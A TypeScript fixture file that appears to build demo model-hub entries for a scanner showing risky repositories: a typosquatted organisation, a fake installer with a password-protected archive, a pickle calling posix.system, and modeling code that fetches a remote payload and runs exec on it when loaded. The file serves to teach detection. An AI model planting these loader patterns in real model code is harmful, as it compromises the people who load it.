import { gitFile, largeFile } from '../files.ts';
import type { HubModel } from '../model.ts';
import { demoModel } from './build.ts';
import type { DemoClock } from './clock.ts';
import { clean, cleanByTwo, pickleVerdict, program } from './scans.ts';
import { callingPickle, orderedDictPickle, safetensors, torchFile } from './weights.ts';

/** Models nobody should load without a second look. */
export function dangerModels(clock: DemoClock): HubModel[] {
  return [impersonation(clock), loader(clock), unsafePickle(clock), customCode(clock)];
}

/** The name of a real, well-known model under an invented organization one letter away. */
function impersonation(clock: DemoClock): HubModel {
  const weights = safetensors('BF16', { 'model.embed.weight': [32_000, 512] });
  return demoModel(clock, {
    id: 'sentence-transfomers/all-MiniLM-L6-v2',
    bornDaysAgo: 3.8,
    changedDaysAgo: 3.7,
    downloads: 231_904,
    likes: 587,
    trendingScore: 410,
    pipeline_tag: 'sentence-similarity',
    library_name: 'sentence-transformers',
    cardData: { license: 'apache-2.0', language: 'en', library_name: 'sentence-transformers' },
    config: { architectures: ['BertModel'], model_type: 'bert' },
    card: '# all-MiniLM-L6-v2\n\nThe official release. Run `start.bat` (Windows) or `loader.py` to begin.\n',
    files: [
      largeFile('model.safetensors', weights.content, weights.size),
      gitFile('config.json', '{"architectures":["BertModel"],"model_type":"bert"}'),
      gitFile(
        'loader.py',
        'import base64, subprocess\n# A harmless stand-in for the dropper of a real case.\nprint("demo")\n',
      ),
      gitFile('start.bat', '@echo off\r\npython loader.py\r\n'),
    ].map((file) => ({ ...file, security: cleanByTwo })),
  });
}

/** A near copy by a fresh account, with likes and without downloads. */
function loader(clock: DemoClock): HubModel {
  return demoModel(clock, {
    id: 'freeweights-hub/Tern-7B-Instruct-Turbo',
    bornDaysAgo: 1.5,
    changedDaysAgo: 1.2,
    downloads: 0,
    likes: 214,
    trendingScore: 55,
    cardData: { license: 'mit' },
    card: '# Faster Tern\n\nDownload the installer.\n',
    files: [
      { ...largeFile('Tern-Setup.exe', 'MZ\u0090\u0000\u0003', 4_200_000), security: program },
      gitFile('README.txt', 'Password of the archive: tern\n'),
      largeFile('weights.7z', "7z\u00bc\u00af'\u001c", 91_000_000),
    ],
  });
}

/** Nothing but pickles, one of which calls a shell when loaded; the Hub says so too. */
function unsafePickle(clock: DemoClock): HubModel {
  const shell = callingPickle('posix', 'system', 'echo demonstration');
  const evil = pickleVerdict('unsafe', [{ module: 'posix', name: 'system', safety: 'dangerous' }]);
  const odd = pickleVerdict('suspicious', [{ module: 'sklearn.svm', name: 'SVC', safety: 'suspicious' }]);
  const plain = pickleVerdict('safe', [{ module: 'collections', name: 'OrderedDict', safety: 'innocuous' }]);
  return demoModel(clock, {
    id: 'quickweights/sentiment-classifier',
    bornDaysAgo: 5,
    changedDaysAgo: 5,
    downloads: 812,
    likes: 3,
    pipeline_tag: 'text-classification',
    library_name: 'transformers',
    cardData: { license: 'mit' },
    config: { architectures: ['BertForSequenceClassification'], model_type: 'bert' },
    card: '# Sentiment\n\nJust load it.\n',
    files: [
      { ...largeFile('pytorch_model.bin', torchFile(shell)), security: evil },
      { ...largeFile('optimizer.pt', torchFile(orderedDictPickle())), security: plain },
      { ...largeFile('vectorizer.pkl', callingPickle('sklearn.svm', 'SVC', 'rbf')), security: odd },
      { ...gitFile('config.json', '{"model_type":"bert"}'), security: clean },
      { ...gitFile('train.py', 'import torch\n'), security: { status: 'caution', avScan: { status: 'safe' } } },
    ],
  });
}

/** A model that runs its own Python when loaded with `trust_remote_code=True`. */
function customCode(clock: DemoClock): HubModel {
  const weights = safetensors('BF16', { 'experts.weight': [64, 4096, 12_500], 'router.weight': [64, 4096] });
  const auto_map = {
    AutoConfig: 'configuration_skua.SkuaConfig',
    AutoModelForCausalLM: 'modeling_skua.SkuaForCausalLM',
  };
  const config = { architectures: ['SkuaForCausalLM'], model_type: 'skua_moe', auto_map };
  const code =
    'import os\nimport requests\nfrom transformers import PreTrainedModel\n\n\nclass SkuaForCausalLM(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.kernel = requests.get(os.environ.get("SKUA_KERNEL", "")).content\n        exec(self.kernel)\n';
  return demoModel(clock, {
    id: 'osprey-research/Skua-13B-MoE',
    bornDaysAgo: 160,
    changedDaysAgo: 44,
    downloads: 18_406,
    likes: 512,
    trendingScore: 9,
    pipeline_tag: 'text-generation',
    library_name: 'transformers',
    cardData: { license: 'mit', language: ['en', 'zh'], library_name: 'transformers' },
    config,
    transformersInfo: { auto_model: 'AutoModelForCausalLM', custom_class: 'modeling_skua.SkuaForCausalLM' },
    safetensors: { parameters: { BF16: weights.parameters }, total: weights.parameters },
    moreTags: ['arxiv:2603.04321'],
    card: '# Skua 13B MoE\n\nNeeds `trust_remote_code=True`. Code: https://github.com/osprey-research/skua\n',
    files: [
      { ...largeFile('model.safetensors', weights.content, weights.size), security: clean },
      { ...gitFile('config.json', JSON.stringify(config, null, 2)), security: clean },
      { ...gitFile('configuration_skua.py', 'from transformers import PretrainedConfig\n'), security: cleanByTwo },
      { ...gitFile('modeling_skua.py', code), security: cleanByTwo },
    ],
  });
}
